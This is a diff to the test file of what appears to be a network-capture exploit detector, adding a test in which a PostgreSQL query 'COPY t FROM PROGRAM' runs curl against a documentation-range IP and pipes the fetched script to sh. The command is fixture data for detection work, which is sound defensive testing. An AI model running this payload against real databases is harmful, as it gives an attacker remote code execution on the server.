@@ -2,7 +2,7 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
 import { intelWith } from '../../test/intel-with.ts'
-import { eth, ip4, packed, pcapOf, tcp, udp } from '../../test/packets.ts'
+import { be32, eth, ip4, packed, pcapOf, tcp, udp } from '../../test/packets.ts'
 import { stratumTalk } from '../../test/stratum-talk.ts'
 import { concat } from '../core/bytes.ts'
 import type { Dissector, FlowShape, FlowWatcher } from '../core/dissector.ts'
@@ -178,4 +178,20 @@ test('changed captures and random packets: no exception, and what is kept stays 
     ),
     { numRuns: 300 },
   )
+})
+
+test('a query from the middle of a capture, taken for an answer at first: who speaks is told as before, and its answer is found', () => {
+  const query = "COPY t FROM PROGRAM 'curl -s http://198.51.100.9/a.sh | sh'"
+  const message = (letter: string, body: string): Uint8Array => packed(letter, be32(body.length + 4), body)
+  const ends = { from: '192.0.2.1', to: '198.51.100.1', sport: 2000, dport: 40_000 }
+  const back = { from: ends.to, to: ends.from, sport: ends.dport, dport: ends.sport }
+  const asked = message('Q', `${query}\0`)
+  const { exploits: [row] = [] } = run(
+    engineOf(dissectors),
+    pcapOf([
+      frame(ip4(6, tcp(ends, 1, 0x18, asked, 1), ends)),
+      frame(ip4(6, tcp(back, 1, 0x18, message('C', 'COPY 1\0'), 1 + asked.length), back)),
+    ]),
+  ).rows.all()
+  assert.deepEqual([row?.client.address, row?.target, row?.answer], ['192.0.2.1', '', 'COPY 1 '])
 })
